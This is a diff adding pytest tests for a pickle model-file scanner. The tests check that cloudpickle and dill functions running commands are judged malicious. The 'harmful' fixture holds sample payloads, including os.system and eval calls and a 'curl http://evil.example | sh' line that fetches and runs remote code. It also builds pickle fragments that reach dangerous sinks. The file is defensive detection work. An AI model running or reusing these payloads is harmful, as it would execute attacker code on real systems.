@@ -1,0 +1,94 @@
+from __future__ import annotations
+
+import functools
+import pickle as cpython
+from collections.abc import Callable
+from typing import Any
+
+import cloudpickle
+import dill
+import pytest
+from tests.formats.assemble import EMPTY_DICT, EMPTY_TUPLE, NONE, call, data, number, pickle, text, tup
+from tests.formats.pickle.opinions import worst
+from tests.scan.examine import examine
+
+from modelward.core.finding import Verdict
+from modelward.formats.pickle.judge import Opinion
+
+
+def honest() -> list[Callable[..., Any]]:
+    import os
+
+    scale = 2.0
+    return [
+        lambda x: x * scale,
+        lambda model: model.eval(),
+        lambda name: os.path.join("a", name),
+        functools.partial(lambda x, y: x + y, 1),
+    ]
+
+
+def harmful() -> list[Callable[..., Any]]:
+    import os
+    import subprocess
+
+    return [
+        lambda: os.system("id"),
+        lambda: subprocess.Popen(["id"]),
+        lambda: __import__("os"),
+        lambda: eval("__import__('os').system('id')"),
+        lambda: exec("import os; os.system('curl http://evil.example | sh')"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "dumps", [cloudpickle.dumps, functools.partial(dill.dumps, recurse=True)], ids=["cloud", "dill"]
+)
+def test_function_that_harms_nobody_is_unverified(dumps: Callable[[Any], bytes]) -> None:
+    for function in honest():
+        assert examine(dumps(function)).verdict is Verdict.UNVERIFIED
+
+
+@pytest.mark.parametrize(
+    "dumps", [cloudpickle.dumps, functools.partial(dill.dumps, recurse=True)], ids=["cloud", "dill"]
+)
+def test_function_that_runs_a_command_is_an_attack(dumps: Callable[[Any], bytes]) -> None:
+    for function in harmful():
+        assert examine(dumps(function)).verdict is Verdict.MALICIOUS
+
+
+def test_class_brought_along_is_unverified() -> None:
+    class Scaler:
+        def apply(self, value: float) -> float:
+            return value * 2
+
+    Scaler.__module__ = "__main__"
+    assert examine(cloudpickle.dumps(Scaler())).verdict is Verdict.UNVERIFIED
+    assert cpython is not None
+
+
+MAKE = call("cloudpickle.cloudpickle", "_make_function", NONE, EMPTY_DICT, NONE, NONE, NONE)
+
+
+@pytest.mark.parametrize(
+    ("value", "opinion"),
+    [
+        (MAKE + EMPTY_TUPLE + b"R", Opinion.SINK),
+        (call("dill._dill", "_create_function", NONE) + EMPTY_TUPLE + b"R", Opinion.SINK),
+        (call("types", "FunctionType", NONE, EMPTY_DICT) + EMPTY_TUPLE + b"R", Opinion.SINK),
+        (call("types", "CodeType", number(0), tup(text("system"), text("os"))), Opinion.SINK),
+        (call("types", "CodeType", number(0), tup(text("system"), text("platform"))), Opinion.UNKNOWN),
+        (call("cloudpickle.cloudpickle", "subimport", text("subprocess")), Opinion.SINK),
+        (call("cloudpickle.cloudpickle", "subimport", text("numpy")), Opinion.UNKNOWN),
+        (call("cloudpickle.cloudpickle", "subimport", number(1)), Opinion.SINK),
+        (call("dill._dill", "_import_module", text("os")), Opinion.UNKNOWN),
+        (
+            call("dill._dill", "_get_attr", call("dill._dill", "_import_module", text("os")), text("system")),
+            Opinion.SINK,
+        ),
+        (call("dill._dill", "_eval_repr", text("1")), Opinion.SINK),
+        (call("cloudpickle", "loads", data(b"")), Opinion.SINK),
+    ],
+)
+def test_parts_of_functions(value: bytes, opinion: Opinion) -> None:
+    assert worst(pickle(value)) is opinion
